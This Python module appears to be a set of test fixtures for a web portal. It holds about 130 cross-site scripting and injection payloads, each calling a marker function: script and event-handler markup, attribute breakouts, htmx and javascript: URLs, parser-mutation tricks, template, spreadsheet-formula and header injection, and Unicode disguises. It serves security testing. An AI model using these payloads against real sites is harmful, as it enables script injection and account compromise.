"""What somebody could type so that it runs where others read it; `{n}` says which field ran.

Written for this portal: each would call `pwned(n)` if the place where it is shown let it out.
"""

from __future__ import annotations

# Markup, from the plain to what old filters let through.
MARKUP = (
    "<script>pwned({n})</script>",
    "</script><script>pwned({n})</script>",
    "<SCRIPT>pwned({n})</SCRIPT >",
    "<scr<script>ipt>pwned({n})</scr</script>ipt>",
    "<script/x>pwned({n})</script>",
    "<script\n>pwned({n})</script\n>",
    "<script src=data:text/javascript,pwned({n})></script>",
    "<script src=//elsewhere.example/pwned({n})></script>",
    "<script type=module>pwned({n})</script>",
    "<img src=x onerror=pwned({n})>",
    "<img src=x onerror='pwned({n})'//",
    "<img/src/onerror=pwned({n})>",
    "<<img src=x onerror=pwned({n})>>",
    "<image href=x onerror=pwned({n})>",
    "<body onload=pwned({n})>",
    "<input autofocus onfocus=pwned({n})>",
    "<details open ontoggle=pwned({n})>x</details>",
    "<video src=x onerror=pwned({n})></video>",
    "<audio src=x onerror=pwned({n})>",
    "<video><source onerror=pwned({n})></video>",
    "<marquee onstart=pwned({n})>x</marquee>",
    "<iframe src=javascript:parent.pwned({n})></iframe>",
    "<iframe srcdoc='<script>parent.pwned({n})</script>'></iframe>",
    "<object data=data:text/html,<script>pwned({n})</script>></object>",
    "<embed src=javascript:pwned({n})>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned({n})'>",
    "<base href='javascript:/pwned({n})//'>",
    "<link rel=stylesheet href='data:text/css,*{{color:red}}/*pwned({n})*/'>",
    "<style>*{{background:url(javascript:pwned({n}))}}</style>",
    "<p style='animation:flash 1s' onanimationstart=pwned({n})>x</p>",
    "<form action=javascript:pwned({n})><button autofocus>x</button></form>",
    "<isindex type=image src=x onerror=pwned({n})>",
    "<template shadowrootmode=open><img src=x onerror=pwned({n})></template>",
    "<dialog open onclose=pwned({n})><form method=dialog><button>x</button></form></dialog>",
    "<div popover id=p onbeforetoggle=pwned({n})></div><button popovertarget=p>x</button>",
)
# Out of the place where a text stands: attributes, comments, elements of raw text.
PLACES = (
    '" autofocus onfocus="pwned({n})',
    "' autofocus onfocus='pwned({n})",
    '" onmouseover="pwned({n})" x="',
    "x onerror=pwned({n}) y",
    '"><script>pwned({n})</script>',
    "'><script>pwned({n})</script>",
    "\"'><img src=x onerror=pwned({n})>",
    "`><img src=x onerror=pwned({n})>",
    "--><script>pwned({n})</script><!--",
    "--!><img src=x onerror=pwned({n})>",
    "]]><script>pwned({n})</script>",
    "</title><script>pwned({n})</script>",
    "</textarea><script>pwned({n})</script>",
    "</option></select><img src=x onerror=pwned({n})>",
    "</style><script>pwned({n})</script>",
    "</noscript><img src=x onerror=pwned({n})>",
    "</td></tr></table><img src=x onerror=pwned({n})>",
    "</button></form><form><input autofocus onfocus=pwned({n})>",
    '\\"-pwned({n})-\\"',
    "';pwned({n});//",
    '";pwned({n});//',
    "${{pwned({n})}}",
    "`-pwned({n})-`",
    '{{"x":"</script><script>pwned({n})</script>"}}',
)
# For htmx and for the attributes that the portal's own scripts read.
FRAGMENTS = (
    '" hx-on:load="pwned({n})" x="',
    '<div hx-get="/help/" hx-trigger="load" hx-on::after-request="pwned({n})"></div>',
    '<div hx-get="javascript:pwned({n})" hx-trigger=load></div>',
    "<div hx-vals='js:{{x: pwned({n})}}' hx-get=/ hx-trigger=load></div>",
    "<div hx-swap-oob=innerHTML:#main><img src=x onerror=pwned({n})></div>",
    "<hx-partial hx-target=#main><script>pwned({n})</script></hx-partial>",
    "<div hx-sse:connect=/live/ onmessage=pwned({n})></div>",
    "<button data-key=h onclick=pwned({n}) autofocus>x</button>",
    '<meta name="htmx-config" content=\'{{"x":"pwned({n})"}}\'>',
    "event: message\ndata: <script>pwned({n})</script>\n\n",
)
# Addresses, also inside Markdown, which documents are written in.
ADDRESSES = (
    "javascript:pwned({n})",
    "JaVaScRiPt:pwned({n})",
    "java\tscript:pwned({n})",
    "java\nscript:pwned({n})",
    "&#106;avascript:pwned({n})",
    "\x01javascript:pwned({n})",
    "javascript://x/%0apwned({n})",
    "vbscript:pwned({n})",
    "data:text/html,<script>pwned({n})</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+#pwned({n})",
    "data:image/svg+xml,<svg onload=pwned({n})>",
    "[read](javascript:pwned({n}))",
    "[read](data:text/html,<script>pwned({n})</script>)",
    '![x](x"onerror="pwned({n}))',
    "<javascript:pwned({n})>",
    "[x]: javascript:pwned({n})",
    "`<img src=x onerror=pwned({n})>`",
    'https://elsewhere.example/" onmouseover="pwned({n})',
    "https://elsewhere.example/?q=<script>pwned({n})</script>",
)
# What a parser makes of it the second time it reads it.
MUTATIONS = (
    "<svg onload=pwned({n})>",
    "<svg><script>pwned({n})</script></svg>",
    "<svg><script href=data:,pwned({n}) />",
    "<svg><animate onbegin=pwned({n}) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:pwned({n})>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwned({n})>#x'/></svg>",
    "<svg><foreignObject><img src=x onerror=pwned({n})></foreignObject></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=pwned({n})>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned({n})>",
    "<math href=javascript:pwned({n})>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=pwned({n})>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>"
    "<img src=x onerror=pwned({n})>'>",
    "<xmp><p title='</xmp><img src=x onerror=pwned({n})>'>",
    "&lt;script&gt;pwned({n})&lt;/script&gt;",
    "&amp;lt;img src=x onerror=pwned({n})&amp;gt;",
    "%3Cscript%3Epwned({n})%3C/script%3E",
    "\\u003cscript\\u003epwned({n})\\u003c/script\\u003e",
    "+ADw-script+AD4-pwned({n})+ADw-/script+AD4-",
)
# Templates, spreadsheets, calendars and headers.
LANGUAGES = (
    '{{% debug %}}{{{{ "rendered-"|add:"by-a-template" }}}}pwned({n})',
    "{{{{ settings.SECRET_KEY }}}}pwned({n})",
    "{{% load static %}}{{% include 'base.html' %}}pwned({n})",
    "%(x)s%s{{0.__class__}}pwned({n})",
    '=HYPERLINK("javascript:pwned({n})","open")',
    "=cmd|'/c calc'!A0 pwned({n})",
    "+1+pwned({n})",
    "-1+pwned({n})",
    "@SUM(1)*pwned({n})",
    "\t=1+pwned({n})",
    "x\r\nATTACH:javascript:pwned({n})",
    "x\r\nContent-Type: text/html\r\n\r\n<script>pwned({n})</script>",
    "x\nBEGIN:VEVENT\nDESCRIPTION:<script>pwned({n})</script>",
)
# What is seen differently from what is there.
LETTERS = (
    "\u202e>tpircs/<({n})denwp>tpircs<\u202c pwned({n})",
    "\u2066<script>\u2069pwned({n})\u2066</script>\u2069",
    "<\u200bscript>pwned({n})</\u200bscript>",
    "\uff1cscript\uff1epwned({n})\uff1c/script\uff1e",
    "\u2028<script>pwned({n})</script>\u2029",
    "\ufeff<script>pwned({n})</script>",
    "<ſcript>pwned({n})</ſcript>",
    "<img src=x on\u0435rror=pwned({n})>",
    "\x0b<script\x0c>pwned({n})</script\x1f>",
    "\x1b[31m<script>pwned({n})</script>\x07",
    "\x85<img\x85src=x\x85onerror=pwned({n})>",
    "Z\u0351\u036b\u0343a\u0345l\u0323g\u0328o <script>pwned({n})</script>",
    "\U0001f469\u200d\U0001f692<script>pwned({n})</script>\U000e0041",
    "Donaudampfschifffahrt" * 9 + "<script>pwned({n})</script>",
)
PAYLOADS = (
    *MARKUP, *PLACES, *FRAGMENTS, *ADDRESSES, *MUTATIONS, *LANGUAGES, *LETTERS,
)  # fmt: skip
# One of each kind, for every run of the tests.
FEW = (
    MARKUP[0], MARKUP[9], PLACES[0], PLACES[11], FRAGMENTS[0], ADDRESSES[0], ADDRESSES[11],
    MUTATIONS[7], LANGUAGES[0], LETTERS[0],
)  # fmt: skip


def written(payload: str, number: int, longest: int | None = None) -> str:
    """As the field of this number takes it: what does not fit gives way to one that does."""
    text = payload.format(n=number)
    if longest is None or len(text) <= longest:
        return text
    shorter = (f"<b onclick=pwned({number})>", f"<b>pwned({number})")
    return next((one for one in shorter if len(one) <= longest), "<b>"[:longest])
